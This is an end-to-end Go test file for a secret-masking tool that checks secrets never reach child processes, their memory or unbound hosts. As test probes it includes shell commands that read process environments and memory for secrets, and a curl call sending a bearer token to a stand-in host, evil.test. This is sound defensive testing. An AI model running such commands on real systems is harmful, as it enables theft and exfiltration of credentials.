package e2e_test

import (
	"fmt"
	"runtime"
	"strings"
	"testing"

	"kz/test/bed"
	"kz/test/canary"
)

func TestChildHoldsNoValue(t *testing.T) {
	t.Parallel()
	t.Run("in its environment and arguments", func(t *testing.T) {
		t.Parallel()
		b := bed.New(t)
		value := b.Secret("API_KEY", `hosts = ["api.test"]`)
		b.Env = append(b.Env, "COPY="+value, "HIDDEN=x"+fmt.Sprintf("%x", value), "VAULT_TOKEN=root-of-all", "GREETING=hello")
		res := b.Run(shell(`env; tr '\0' '\n' < /proc/self/environ; tr '\0' '\n' < /proc/self/cmdline`)...)
		res.Succeeds(t)
		b.Clean(res)
		out := "\n" + string(res.Stdout)
		for _, gone := range []string{"COPY=", "HIDDEN=", "VAULT_TOKEN="} {
			if strings.Contains(out, "\n"+gone) {
				t.Errorf("the child has %s", gone)
			}
		}
		for _, there := range []string{"GREETING=hello", "KZ_SESSION=", "API_KEY=kz_masked_"} {
			if !strings.Contains(out, "\n"+there) {
				t.Errorf("the child lacks %s:%s", there, out)
			}
		}
	})

	t.Run("in the environment and arguments of kz above it", func(t *testing.T) {
		t.Parallel()
		b := bed.New(t)
		b.Secret("API_KEY", `hosts = ["api.test"]`)
		res := b.Run(shell(`
p=$PPID
for i in 1 2 3; do
	tr '\0' '\n' < /proc/$p/environ; tr '\0' '\n' < /proc/$p/cmdline
	p=$(awk '{print $4}' /proc/$p/stat)
	[ "$(cat /proc/$p/comm)" = kz ] || break
done 2>&1`)...)
		res.Succeeds(t)
		b.Clean(res)
	})

	t.Run("in its memory, after it has used it", func(t *testing.T) {
		t.Parallel()
		if runtime.GOOS != "linux" {
			t.Skip("process memory is only searched on Linux")
		}
		python := bed.Python(t, "requests")
		b := bed.New(t)
		value := b.Secret("API_KEY", `hosts = ["api.test"]`)
		p := b.Start(python, "-c", pythonRequests+`
import sys
print("pid:", os.getpid(), flush=True)
sys.stdin.readline()`)
		p.Await("pid: ")
		var pid int
		if _, err := fmt.Sscan(field(p.Stdout(), "pid"), &pid); err != nil {
			t.Fatal(err)
		}
		hits, err := canary.New(value).Process(pid)
		if err != nil {
			bed.Missing(t, "the right to read another process's memory: "+err.Error())
		}
		for _, h := range hits {
			t.Errorf("found %s", h)
		}
		held, err := canary.New(mask.FindString(p.Stdout())).Process(pid)
		if err != nil || len(held) == 0 {
			t.Errorf("not even the mask is found: the search does not work: %v", err)
		}
		res := p.Wait()
		res.Succeeds(t)
		b.Clean(res)
	})
}

func TestChildEnds(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name string
		argv []string
		want int
	}{
		{"its exit code is passed through", shell("exit 42"), 42},
		{"a signal is 128 and its number", shell("kill -KILL $$"), 137},
		{"a program that is not there is 127", []string{"/no/such/program"}, 127},
		{"a file that cannot be executed is 126", []string{"/etc/passwd"}, 126},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := bed.New(t)
			b.Secret("API_KEY", `hosts = ["api.test"]`)
			b.Run(c.argv...).Exits(t, c.want)
		})
	}
}

// TestElsewhere sends the mask to a host it is not bound to.
func TestElsewhere(t *testing.T) {
	t.Parallel()
	curl := bed.Program(t, "curl")
	b := bed.New(t)
	b.Secret("API_KEY", `hosts = ["api.test"]`)
	b.Secret("OTHER_KEY", `hosts = ["other.test"]`)
	res := b.Run(shell(curl + ` -sS -i -H "Authorization: Bearer $API_KEY" https://other.test/echo; ` +
		curl + ` -sS -i -H "Authorization: Bearer $API_KEY" http://api.test/echo; ` +
		curl + ` -sS -H "Authorization: Bearer $API_KEY" https://evil.test/echo`)...)
	b.Clean(res)
	out := strings.ToLower(string(res.Stdout))
	for _, code := range []string{"kz-error: host_not_bound", "kz-error: cleartext"} {
		if !strings.Contains(out, code) {
			t.Errorf("no answer with %s:\n%s%s", code, res.Stdout, res.Stderr)
		}
	}
	for _, r := range b.Origin.Requests() {
		if r.Host == "other.test" || r.Listener == "plain" {
			t.Errorf("the origin was reached: %s %s on %s", r.Method, r.Host, r.Listener)
		}
	}
	if audited(t, b, "other.test", "/echo").Kind != "refusal" {
		t.Error("the refusal is not in the audit")
	}
}
